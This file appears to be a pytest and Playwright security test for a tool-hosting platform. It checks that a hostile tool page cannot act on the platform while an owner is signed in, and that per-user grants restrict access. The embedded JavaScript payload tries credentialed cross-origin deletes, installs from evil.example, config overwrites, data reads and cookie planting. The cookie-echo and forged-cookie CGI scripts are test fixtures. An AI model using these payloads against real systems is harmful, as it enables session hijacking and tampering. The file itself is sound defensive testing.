"""A hostile tool's page in a real Chromium tries to act on the platform while an owner is
signed in (issues 10 and 13).

The page is served by a real container tool through ``machete serve``; the owner signs in on
the dashboard's form and opens the tool from the dashboard (a one-time ticket to the tool's
origin). Its script tries, on every origin it can guess, to delete another tool, install one,
change a configuration, read ``/api/tools``, another tool's page and configuration, and plant
MACHETE's cookie; the test then proves that nothing changed, nothing was read, and the tool's
container never received MACHETE's cookies (it logs every request's cookies). A tool marked
``granted`` is refused to a member without a grant and served to one with it.
"""

from __future__ import annotations

import json
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Page

from tests.support.caddy import caddy_env
from tests.support.git_server import GitHTTPServer, make_repo
from tests.support.http import request
from tests.support.images import http_tool_files
from tests.support.people import PASSWORD
from tests.support.server import call, running_server, tools_base, wait_op

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
PAGE_SECRET = "VICTIM-PAGE-SECRET"
CONFIG_SECRET = "VICTIM-CONFIG-SECRET"

HOSTILE_JS = r"""
const api = __API__, toolsPort = __TOOLS_PORT__, domain = __DOMAIN__;
const apiPort = new URL(api).port;
const names = ["127.0.0.1", "localhost", "[::1]"];
const origins = [];
for (const n of names) { origins.push(`http://${n}:${apiPort}`, `http://${n}:${toolsPort}`); }
if (domain) { origins.push(`http://victim.${domain}:${toolsPort}`, `http://${domain}:${apiPort}`); }
const results = [];
async function attempt(label, url, init) {
  try {
    const resp = await fetch(url, Object.assign({credentials: "include"}, init || {}));
    let text = "";
    try { text = await resp.text(); } catch (e) { text = "unreadable"; }
    results.push(`${label} ${url} -> ${resp.status} ${text.slice(0, 200)}`);
  } catch (e) { results.push(`${label} ${url} -> blocked`); }
}
async function run() {
  document.cookie = "machete_session=planted-by-js; path=/";
  await fetch("cgi-bin/cookie").catch(() => {});
  const echoed = await fetch("cgi-bin/echo").then((r) => r.text()).catch(() => "no echo");
  results.push(`echo -> ${echoed}`);
  const jobs = [];
  for (const o of origins) {
    const body = JSON.stringify({url: "https://evil.example/x.git", name: "evil"});
    jobs.push(attempt("delete", `${o}/api/tools/victim`, {method: "DELETE"}));
    jobs.push(attempt("install", `${o}/api/tools`, {method: "POST", body,
      headers: {"Content-Type": "text/plain"}}));
    jobs.push(attempt("install-form", `${o}/api/tools/install`, {method: "POST",
      body: "git_url=https://evil.example/x.git", mode: "no-cors",
      headers: {"Content-Type": "application/x-www-form-urlencoded"}}));
    jobs.push(attempt("config", `${o}/api/tools/victim/config`, {method: "PUT",
      body: JSON.stringify({values: {TOKEN: "pwned"}})}));
    jobs.push(attempt("config-simple", `${o}/api/tools/victim/config`, {method: "POST",
      body: JSON.stringify({values: {TOKEN: "pwned"}}), headers: {"Content-Type": "text/plain"}}));
    jobs.push(attempt("read-config", `${o}/api/tools/victim/config`));
    jobs.push(attempt("read-page", `${o}/tools/victim/`));
    jobs.push(attempt("read-root", `${o}/`));
    jobs.push(attempt("read-tools", `${o}/api/tools`));
    jobs.push(attempt("read-me", `${o}/api/auth/me`));
  }
  await Promise.all(jobs);
  for (const o of origins) {
    await new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.src = `${o}/tools/victim/`;
      frame.onload = () => {
        try { results.push(`frame ${o} -> ${frame.contentDocument.body.innerText}`); }
        catch (e) { results.push(`frame ${o} -> blocked`); }
        done();
      };
      setTimeout(done, 3000);
      document.body.appendChild(frame);
    });
  }
  window.__results = results;
}
run().catch((e) => { window.__results = ["crashed " + e]; });
"""

#: What the tool's container receives: its cookies and credentials, into its log and its answer.
ECHO_CGI = (
    "#!/bin/sh\n"
    'echo "cookie-seen: [$HTTP_COOKIE] auth-seen: [$HTTP_AUTHORIZATION]" >&2\n'
    'echo "Content-Type: text/plain"\n'
    "echo\n"
    'echo "cookie-seen: [$HTTP_COOKIE] auth-seen: [$HTTP_AUTHORIZATION]"\n'
)
COOKIE_CGI = (
    "#!/bin/sh\n"
    'echo "Content-Type: text/plain"\n'
    'echo "Set-Cookie: machete_session=planted-by-header; Path=/; HttpOnly"\n'
    "echo\necho planted\n"
)


def hostile_files(api: str, tools_port: int, domain: str) -> dict[str, str]:
    files = http_tool_files("hostile")
    script = (
        HOSTILE_JS.replace("__API__", json.dumps(api))
        .replace("__TOOLS_PORT__", str(tools_port))
        .replace("__DOMAIN__", json.dumps(domain))
    )
    files["www/index.html"] = (
        '<!doctype html><html><body><script src="evil.js"></script></body></html>\n'
    )
    files["www/evil.js"] = script
    files["www/cgi-bin/cookie"] = COOKIE_CGI
    files["www/cgi-bin/echo"] = ECHO_CGI
    files["Dockerfile"] = files["Dockerfile"].replace(
        "COPY www /www\n",
        "COPY www /www\nRUN chmod 755 /www/cgi-bin/cookie /www/cgi-bin/echo\n",
    )
    return files


def install(base: str, git_server: GitHTTPServer, name: str, files: dict[str, str]) -> None:
    repo = f"{name}{uuid.uuid4().hex[:6]}"
    make_repo(git_server.root, repo, files)
    _s, body = call(
        "POST", f"{base}/api/tools", {"url": git_server.url(f"{repo}.git"), "name": name}
    )
    assert wait_op(base, body["operation_id"])["status"] == "succeeded"


@pytest.fixture(params=["path", "domain", "caddy-path", "caddy-domain"])
def ingress_mode(request: pytest.FixtureRequest) -> str:
    """How tools are reached (``/tools/<name>/`` or their own host) and through what (the
    server's own proxy, or Caddy with ``forward_auth``)."""
    return str(request.param)


@pytest.fixture
def mode(ingress_mode: str) -> str:
    return ingress_mode.removeprefix("caddy-")


@pytest.fixture
def platform(
    env: dict[str, str], busybox_image: str, mode: str, ingress_mode: str
) -> Iterator[str]:
    extra = {"MACHETE_TOOLS_DOMAIN": "localhost"} if mode == "domain" else {}
    if ingress_mode.startswith("caddy-"):
        extra.update(caddy_env())
    with running_server({**env, **extra}) as (base, _proc):
        yield base


def sign_in(page: Page, base: str, name: str, next_path: str = "") -> None:
    """Through the dashboard's form, as a person would."""
    page.goto(f"{base}/sign-in" + (f"?next={next_path}" if next_path else ""))
    page.fill("#signin input[name=username]", name)
    page.fill("#signin input[name=password]", PASSWORD)
    page.click("#signin button")
    if not next_path:
        page.wait_for_selector("nav[aria-label=Main]")


def test_a_hostile_tool_page_cannot_act_on_the_platform(
    platform: str, git_server: GitHTTPServer, mode: str, tmp_path: Path
) -> None:
    from playwright.sync_api import sync_playwright

    base = platform
    tools = tools_base(base)
    tools_port = int(tools.rsplit(":", 1)[1])
    domain = "localhost" if mode == "domain" else ""
    install(base, git_server, "victim", http_tool_files(PAGE_SECRET))
    status, _ = call("PUT", f"{base}/api/tools/victim/config", {"values": {"TOKEN": CONFIG_SECRET}})
    assert status in (200, 202)
    install(base, git_server, "hostile", hostile_files(base, tools_port, domain))
    before_tools = call("GET", f"{base}/api/tools")[1]["tools"]
    before_config = call("GET", f"{base}/api/tools/victim/config")[1]
    before_ops = len(call("GET", f"{base}/api/operations")[1]["operations"])
    owner = "boss"
    add_user(base, owner, "owner")

    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"]
        )
        try:
            context = browser.new_context()
            page = context.new_page()
            sign_in(page, base, owner)
            # Opened from the dashboard: the API origin hands the tool's origin a ticket.
            page.goto(f"{base}/tools/hostile/")
            page.wait_for_function("window.__results !== undefined", timeout=60_000)
            results: list[str] = page.evaluate("window.__results")
            cookies = context.cookies()
            # The owner is still signed in on the dashboard, and sees every tool there.
            page.goto(f"{base}/")
            page.wait_for_selector("li[data-tool=victim]")
        finally:
            browser.close()

    assert results and not results[0].startswith("crashed"), results
    # Nothing changed: the same tools, the same configuration, no operation started.
    after_tools = call("GET", f"{base}/api/tools")[1]["tools"]
    assert [t["name"] for t in after_tools] == [t["name"] for t in before_tools]
    assert call("GET", f"{base}/api/tools/victim/config")[1] == before_config
    assert len(call("GET", f"{base}/api/operations")[1]["operations"]) == before_ops
    assert request(f"{base}/tools/victim/")[1].decode().strip() == PAGE_SECRET
    # Nothing was read: no answer the page could see carries the victim's secrets, the
    # platform's listing or who is signed in.
    leaked = [r for r in results if CONFIG_SECRET in r or '"tools": [' in r or owner in r]
    assert leaked == [], leaked
    if mode == "domain":
        # Each tool is an origin of its own: not even the other tool's page is readable.
        assert [r for r in results if PAGE_SECRET in r] == []
    # The tool's Set-Cookie for MACHETE's session never reached the browser.
    assert not any(c["value"] == "planted-by-header" for c in cookies), cookies
    real = [
        c
        for c in cookies
        if c["name"].startswith(("machete_", "__Host-machete"))
        and c["value"] not in ("planted-by-js",)
    ]
    assert {c["name"] for c in real} >= {"machete_session", "machete_tool_session"}, cookies
    # The tool's container never received MACHETE's cookies (its log and its answer).
    echoed = [r for r in results if r.startswith("echo -> cookie-seen:")]
    assert echoed, results
    logs = "\n".join(call("GET", f"{base}/api/tools/hostile/logs?tail=500")[1]["lines"])
    assert "cookie-seen:" in logs
    for c in real:
        assert c["value"] not in logs and c["value"] not in " ".join(echoed)
    assert "machete_" not in " ".join(echoed)
    assert [line for line in logs.splitlines() if "cookie-seen" in line and "machete" in line] == []
    planted = [c for c in cookies if c["value"] == "planted-by-js"]
    if mode == "domain":
        # Its script's own cookie stays on its own host, never the platform's names.
        assert all(c["domain"] == "hostile.localhost" for c in planted), planted
    # On a shared host name cookies ignore ports: a script can always set one for
    # 127.0.0.1 (documented in docs/security.md); MACHETE never trusts such a cookie
    # and the proxy strips its names from every request to a tool.


def test_a_granted_tool_opens_for_granted_people_only(
    platform: str, git_server: GitHTTPServer, mode: str
) -> None:
    from playwright.sync_api import sync_playwright

    base = platform
    install(base, git_server, "vault", http_tool_files(PAGE_SECRET))
    status, _ = call("PUT", f"{base}/api/tools/vault/access", {"access": "granted"})
    assert status == 200
    add_user(base, "member", "viewer")
    add_user(base, "trusted", "viewer")
    status, _ = call("PUT", f"{base}/api/tools/vault/grants", {"user": "trusted", "role": "viewer"})
    assert status == 200
    seen: dict[str, str] = {}
    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"]
        )
        try:
            for name in ("member", "trusted"):
                context = browser.new_context()
                page = context.new_page()
                # Straight to the tool: not signed in, it sends the browser to sign in first,
                # then back to the tool through a ticket.
                page.goto(f"{base}/tools/vault/")
                assert "/sign-in?next=" in page.url
                page.fill("#signin input[name=username]", name)
                page.fill("#signin input[name=password]", PASSWORD)
                page.click("#signin button")
                page.wait_for_url(
                    lambda url: "next=" not in url and "_machete" not in url, timeout=30_000
                )
                page.wait_for_load_state()
                seen[name] = page.content()
                context.close()
        finally:
            browser.close()
    assert PAGE_SECRET not in seen["member"] and "no access" in seen["member"]
    assert PAGE_SECRET in seen["trusted"]


def add_user(base: str, name: str, role: str) -> None:
    status, body = call(
        "POST", f"{base}/api/users", {"name": name, "role": role, "password": PASSWORD}
    )
    assert status == 201, body
